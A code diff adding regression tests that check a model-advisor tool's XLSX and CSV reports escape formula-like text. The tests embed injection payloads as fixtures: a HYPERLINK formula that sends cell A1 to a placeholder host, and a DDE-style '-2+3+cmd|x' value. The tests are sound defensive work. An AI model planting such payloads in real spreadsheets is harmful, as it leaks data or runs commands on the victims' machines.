@@ -708,3 +708,29 @@ def test_quality_floor_picks_the_models(capsys):
     assert code == 0, err
     d = json.loads(out)
     assert d["comparison"] and all(r["quality_score"] >= 55 for r in d["comparison"] if r["meets"])
+
+
+def test_text_like_a_formula_from_a_users_profile_is_text_in_the_spreadsheet(capsys, tmp_path):
+    """A profile named '=HYPERLINK(…)' became a live formula in four XLSX sheets (openpyxl stores
+    text that starts with '=' as a formula); every cell of the workbook is now a value."""
+    openpyxl = pytest.importorskip("openpyxl")
+    profile = (data_root() / "profiles" / "sbc" / "raspberry-pi-5-8gb.toml").read_text(encoding="utf-8")
+    name = '=HYPERLINK("http://x.invalid/?"&A1,"Pi")'
+    board = tmp_path / "board.toml"
+    board.write_text(re.sub(r'(?m)^name = .*$', "name = " + json.dumps(name), profile, count=1), encoding="utf-8")
+    code, _, err = run(capsys, "report", "--device-file", board, "--model", "qwen3-0.6b", "--format", "xlsx",
+                       "--format", "csv", "-o", tmp_path / "r")
+    assert code == 0, err
+    wb = openpyxl.load_workbook(tmp_path / "r.xlsx")
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    assert any(c.value == name for c in cells)
+    assert not any(line.startswith("=") or ",=" in line for line in (tmp_path / "r.csv").read_text().splitlines())
+
+
+def test_csv_cells_that_start_like_a_formula_are_text_and_numbers_stay_numbers():
+    from advisor.output import render_rows
+
+    rows = [{"a": "=1+1", "b": "-12%", "c": "-", "d": "-2+3+cmd|x", "e": "@SUM(A1)", "f": "+5", "g": -3.5}]
+    text = render_rows(rows, [(k, k) for k in "abcdefg"], "csv")
+    assert text.splitlines()[1] == "'=1+1,-12%,-,'-2+3+cmd|x,'@SUM(A1),+5,-3.5"
